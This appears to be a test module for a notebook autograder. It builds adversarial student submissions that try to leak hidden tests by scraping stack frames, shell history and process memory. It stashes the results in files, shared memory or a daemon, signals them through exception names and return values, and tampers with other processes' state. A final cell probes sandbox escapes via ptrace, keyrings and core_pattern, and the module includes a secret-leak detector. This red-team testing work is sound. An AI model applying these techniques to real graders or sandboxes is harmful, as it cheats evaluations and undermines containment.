"""Submissions that try to show their student the hidden tests: each steals what it can while a
hidden test runs (the caller's frames, the shell's history, linecache, gc, its own memory, the
records channel), stashes it (a global, files in /tmp, $HOME and /dev/shm, a MAP_SHARED mapping
held by a child, a daemon on a socket, the zygote's state) and prints it in a later cell, whose
output is shown; or makes the grader's verdict carry it (an exception's type and message, the
values it returns).

    for case in cases(release): ...           # corpus.Case, graded with honest students beside them
    secrets()                                 # what must never reach a student: sources, seeds, values
    found(text, secrets())                    # the secrets in a page

Every stolen block is printed after a line "STOLEN-<channel>:", so that the test can tell that
each attack ran and look at what it got.
"""

import re

import nbformat

from autograder import samples
from autograder.cells import checks, grade_id, is_test, split_hidden
from autograder.checks import cases as check_cases
from autograder.course import ASSIGNMENTS

from .corpus import ASSIGNMENT, FORGET_GATE, Case, _with_cell

FUNCTIONS = ("sigmoid", "gate_preactivation", "forget_gate", "forget", "forget_weight_shape")

# In an added cell after the setup cell: spy(f) wraps f so that every call collects what its
# callers hold (the cells' sources through linecache, the checks' seed, inputs and expected
# values) and hands it to stash(), which each case defines for its channel.
THIEF = r'''
import linecache, sys

def steal():
    found, frame = [], sys._getframe(2)
    while frame is not None:
        if frame.f_code.co_filename.startswith("<"):
            found += linecache.getlines(frame.f_code.co_filename)
        for name in ("seed", "arguments", "expected", "inputs", "stored"):
            if name in frame.f_locals:
                found.append(f"{name} {frame.f_locals[name]!r}\n")
        frame = frame.f_back
    return "".join(found)[:4000]

def in_hidden_test():
    """A check without stored results: the grader's hidden test."""
    frame = sys._getframe(2)
    while frame is not None:
        if frame.f_code.co_name == "check_random" and frame.f_locals.get("stored", 0) is None:
            return frame.f_locals.get("seed")
        frame = frame.f_back
    return None

def spy(function):
    def spied(*arguments, **keywords):
        stash(steal())
        return function(*arguments, **keywords)
    return spied
'''

STASHES = {
    "global": (
        "STOLEN = []\ndef stash(text):\n    STOLEN.append(text)\n",
        "print('STOLEN-global:')\nprint(''.join(STOLEN)[-20000:])",
    ),
    "files": (
        "import os\nPLACES = ['/tmp/stash', os.path.expanduser('~/stash'), '/dev/shm/stash']\n"
        "def stash(text):\n    for place in PLACES:\n        with open(place, 'a') as f:\n            f.write(text)\n",
        "print('STOLEN-files:')\nfor place in PLACES:\n    try:\n        print(open(place).read()[-8000:])\n"
        "    except OSError as error:\n        print(place, error)",
    ),
    # A shared mapping that a child process also holds, written at an offset kept in its first bytes.
    "mmap": (
        "import mmap, os, time\nSHARED = mmap.mmap(-1, 1 << 20)\nif os.fork() == 0:\n    time.sleep(600)\n"
        "    os._exit(0)\ndef stash(text):\n    data = text.encode()[:4000]\n"
        "    at = int.from_bytes(SHARED[:8], 'little') or 8\n    if at + len(data) < len(SHARED):\n"
        "        SHARED[at:at + len(data)] = data\n        SHARED[:8] = (at + len(data)).to_bytes(8, 'little')\n",
        "print('STOLEN-mmap:')\nend = int.from_bytes(SHARED[:8], 'little')\n"
        "print(SHARED[8:end].decode(errors='replace')[-20000:])",
    ),
    # A daemon started in an early cell, on an abstract socket: it keeps whatever it is sent.
    "daemon": (
        "import os, socket, time\nADDRESS = '\\0lstm-stash'\nif os.fork() == 0:\n    os.setsid()\n"
        "    server, kept = socket.socket(socket.AF_UNIX), []\n    server.bind(ADDRESS)\n    server.listen()\n"
        "    while True:\n        client, _ = server.accept()\n        data = client.recv(1 << 16)\n"
        "        if data == b'GET':\n            client.sendall(b''.join(kept)[-20000:])\n        else:\n"
        "            kept.append(data)\n        client.close()\n"
        "time.sleep(0.3)\ndef stash(text):\n    with socket.socket(socket.AF_UNIX) as s:\n"
        "        s.connect(ADDRESS)\n        s.sendall(text.encode()[:4000])\n",
        "import socket\nprint('STOLEN-daemon:')\nwith socket.socket(socket.AF_UNIX) as s:\n    s.connect(ADDRESS)\n"
        "    s.sendall(b'GET')\n    s.shutdown(socket.SHUT_WR)\n    print(s.recv(1 << 20).decode(errors='replace'))",
    ),
}

# Added last: everything the shell, the interpreter and the process remember.
REMEMBERED = r"""
import gc, linecache, os, re
shell = get_ipython()
print("STOLEN-history:")
print(repr(In)[-20000:], repr(Out)[-5000:])
print({name: value for name, value in globals().items() if name.startswith("_i")})
print(shell.history_manager.input_hist_raw[-50:], getattr(shell.last_execution_result, "info", None))
print("STOLEN-linecache:")
print([entry[2] for name, entry in list(linecache.cache.items()) if name.startswith("<")][-50:])
print("STOLEN-gc:")
print([o for o in gc.get_objects() if isinstance(o, (dict, list)) and any(
    isinstance(v, str) and "check_random(" in v for v in (o.values() if isinstance(o, dict) else o))][-20:])
print("STOLEN-memory:")
found = set()
with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb") as memory:
    for line in maps:
        fields = line.split()
        start, end = (int(x, 16) for x in fields[0].split("-"))
        if fields[1].startswith("rw") and end - start < 2**27:
            try:
                memory.seek(start)
                chunk = memory.read(end - start)
            except (OSError, ValueError, OverflowError):
                continue
            found.update(re.findall(rb"check_random\([^)\n]{0,80}\)|seed=\d+", chunk))
print(sorted(found)[:200])
print("STOLEN-records:")
try:
    fd = os.open("/proc/self/fd/4", os.O_RDONLY | os.O_NONBLOCK)
    print(os.read(fd, 1 << 20)[-20000:])
except OSError as error:
    print("records", error)
"""

# The verdict as a channel: an exception whose type and message carry what was stolen, and a
# result that carries the seed, both only inside a hidden test.
RAISES = (
    "\ndef forget_gate(W_f, h_prev, x_t, b_f, _right=forget_gate):\n    seed = in_hidden_test()\n"
    "    if seed is not None:\n        raise type(f'Seed{seed}', (Exception,), {})(steal())\n"
    "    return _right(W_f, h_prev, x_t, b_f)\n"
)
RETURNS = (
    "\ndef forget_gate(W_f, h_prev, x_t, b_f, _right=forget_gate):\n    seed = in_hidden_test()\n"
    "    if seed is not None:\n        return np.full(len(b_f), float(seed))\n"
    "    return _right(W_f, h_prev, x_t, b_f)\n"
)

# A pair: the first leaves the hidden seed in whatever outlives a kernel (the zygote's oom score,
# its session's scheduling group, its nice value, a keyring); the second, graded later, reads it.
LEAVES_STATE = r"""
import ctypes, glob, os
def leave(text):
    seed = in_hidden_test()
    if seed is None:
        return
    for path in glob.glob("/proc/[0-9]*/oom_score_adj"):
        try:
            open(path, "w").write(str(seed % 1000))
        except OSError:
            pass
    try:
        open("/proc/self/autogroup", "w").write(str(seed % 20))
    except OSError:
        pass
    for pid in range(1, 64):
        try:
            os.setpriority(os.PRIO_PROCESS, pid, seed % 20)
        except OSError:
            pass
    libc = ctypes.CDLL(None, use_errno=True)
    for keyring in (-3, -4, -5):  # session, user, user session
        libc.syscall(248, b"user", f"seed {seed}".encode(), b"x", 1, keyring)
stash = leave
"""
READS_STATE = r"""
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
print("STOLEN-state:")
print("oom_score_adj", open("/proc/self/oom_score_adj").read().strip(), "nice", os.nice(0))
print("autogroup", open("/proc/self/autogroup").read().strip() if os.path.exists("/proc/self/autogroup") else None)
print("keys", open("/proc/keys").read(), "keyctl", libc.syscall(250, 0, -3, 0), ctypes.get_errno())
"""

# Right answers, and a cell that tries to reach beyond its kernel: the zygote through /proc,
# ptrace and process_vm_readv, the grader's keyrings, a user namespace of its own, perf, the
# host's core_pattern. It prints what happened as JSON after "ESCAPES:".
ESCAPES = r"""
import ctypes, errno, json, os
libc = ctypes.CDLL(None, use_errno=True)
def call(number, *arguments):
    result = libc.syscall(ctypes.c_long(number), *[ctypes.c_long(a) for a in arguments])
    return "ok" if result >= 0 else errno.errorcode[ctypes.get_errno()]
def write(path, text):
    try:
        with open(path, "w") as f:
            f.write(text)
        return "ok"
    except OSError as error:
        return errno.errorcode[error.errno]
tried = {"pids": sorted(int(p) for p in os.listdir("/proc") if p.isdigit()),
         "core_pattern": write("/proc/sys/kernel/core_pattern", "|/bin/false"),
         "keyctl": call(250, 0, -3, 0), "add_key": call(248, 0, 0, 0, 0, -3), "ptrace": call(101, 16, 1, 0, 0),
         "process_vm_readv": call(310, 1, 0, 0, 0, 0, 0), "unshare": call(272, 0x10000000),
         "perf_event_open": call(298, 0, 0, -1, -1, 0)}
print("ESCAPES:", json.dumps(tried))
"""


def _spied(notebook, stash_code):
    """notebook with the thief and a stash after the setup cell, and every graded function spied on."""
    notebook = _with_cell(notebook, "setup", THIEF + stash_code)
    answers = samples.solution_answers(ASSIGNMENT)
    for name in FUNCTIONS:
        notebook = samples.set_cell(notebook, name, f"{answers[name]}\n{name} = spy({name})\n")
    return notebook


def cases(release):
    right = samples.solved(ASSIGNMENT, release)
    found = [Case("right", "every answer right", right)]
    for channel, (stash, reveal) in STASHES.items():
        notebook = _with_cell(_spied(right, stash), "errata", reveal)
        found.append(
            Case(
                f"leaks_by_{channel}",
                f"right answers; steals from the hidden tests' frames into {channel}, printed in a last cell",
                notebook,
            )
        )
    found.append(
        Case(
            "leaks_what_the_shell_remembers",
            "right answers; a last cell prints In, Out, _i*, the "
            "history, linecache, gc, its own memory and the records channel",
            _with_cell(right, "errata", REMEMBERED),
        )
    )
    thief = _spied(right, "def stash(text):\n    pass\n")
    found.append(
        Case(
            "leaks_through_an_exception",
            "forget_gate raises an exception named after the hidden seed, its message what it stole",
            samples.set_cell(thief, "forget_gate", samples.solution_answers(ASSIGNMENT)["forget_gate"] + RAISES),
            zero=FORGET_GATE,  # its visible cell needs the hidden tests too
        )
    )
    found.append(
        Case(
            "leaks_through_its_result",
            "forget_gate returns the hidden seed",
            samples.set_cell(thief, "forget_gate", samples.solution_answers(ASSIGNMENT)["forget_gate"] + RETURNS),
            zero=FORGET_GATE,  # its visible cell needs the hidden tests too
        )
    )
    found.append(
        Case(
            "leaves_state_in_the_zygote",
            "right answers; leaves the hidden seed in the zygote's oom score, "
            "nice value, scheduling group and keyrings",
            _spied(right, LEAVES_STATE),
        )
    )
    found.append(
        Case(
            "zz_reads_state_of_the_zygote",
            "right answers; prints the oom score, nice value, scheduling group and keyrings it inherited",
            _with_cell(right, "errata", READS_STATE),
        )
    )
    found.append(
        Case(
            "tries_to_escape_its_kernel",
            "right answers; ptrace, process_vm_readv, keyrings, a user namespace, perf and core_pattern from a cell",
            _with_cell(right, "setup", ESCAPES),
        )
    )
    found.append(Case("zz_right_last", "every answer right, graded after every attack", right))
    return found


# -- what must never reach a student ---------------------------------------------------------------
def hidden_cells():
    """[(grade_id, hidden part of its source)] of the assignment's source notebook."""
    notebook = nbformat.read(ASSIGNMENTS / ASSIGNMENT / f"{ASSIGNMENT}.ipynb", as_version=4)
    return [
        (grade_id(cell), split_hidden(cell.source)[1])
        for cell in notebook.cells
        if is_test(cell) and split_hidden(cell.source)[1].strip()
    ]


def _numbers(value):
    """The floats of an expected value or an input (arrays, tuples, dicts of arrays)."""
    import numpy as np

    if isinstance(value, dict):
        return [x for v in value.values() for x in _numbers(v)]
    if isinstance(value, (tuple, list)) and not all(isinstance(v, (int, np.integer)) for v in value):
        return [x for v in value for x in _numbers(v)]
    array = np.asarray(value)
    return [float(x) for x in array.ravel()] if array.dtype.kind == "f" else []


def _printed_forms(number):
    """How a float shows when printed with 8 decimals or more (numpy's repr, str): its first 8
    decimals, cut and rounded. (With 6, the visible tests' inputs share a few by chance.)"""
    forms = set()
    for text in (f"{abs(number):.14f}", f"{abs(number):.8f}"):
        whole, decimals = text.split(".")
        if len(set(decimals[:8])) > 2:  # not a round number that could show anywhere
            forms.add(f"{whole}.{decimals[:8]}")
    return forms


def secrets():
    """For every hidden test: {what: compiled pattern} for each source line that calls a check
    and its seed, and {"0.73105857": what} for the first 8 decimals of its inputs and expected results."""
    found = {}
    for gid, source in hidden_cells():
        for line in (line.strip() for line in source.splitlines()):
            if line and not line.startswith("#") and "import" not in line:
                found[f"{gid}: the line {line!r}"] = re.compile(re.escape(line))
        for check in checks(source):
            if check.kind != "random":
                continue
            seed = check.key
            found[f"{gid}: seed={seed}"] = re.compile(rf"seed\W{{0,3}}{seed}(?![\d.])")
            found[f"{gid}: the bare seed {seed}"] = re.compile(rf"(?<![\d.\w#-]){seed}(?![\d.\w])")
            forms = set()
            for case in check_cases(check):
                for number in _numbers(case.expected) + _numbers(case.arguments):
                    forms |= _printed_forms(number)
            found.update({form: f"{gid}: the number {form}" for form in forms})
    return found


def found(text, secrets, stolen=""):
    """[what] of `secrets` that occur in text. A bare seed number counts only in `stolen` (the
    blocks the attacks printed), where it cannot be a number the page shows for its own reasons;
    a number counts where it is printed with at least 8 decimals."""
    hits = [
        what
        for what, pattern in secrets.items()
        if not isinstance(pattern, str) and pattern.search(stolen if "bare seed" in what else text)
    ]
    return hits + sorted(
        {secrets[number] for number in re.findall(r"\d+\.\d{8}", text) if isinstance(secrets.get(number), str)}
    )


def stolen_blocks(text):
    """The text printed after each 'STOLEN-<channel>:' line, by channel."""
    blocks = {}
    for match in re.finditer(r"STOLEN-([\w-]+):(.*?)(?=STOLEN-[\w-]+:|\Z)", text, flags=re.S):
        blocks[match.group(1)] = blocks.get(match.group(1), "") + match.group(2)
    return blocks
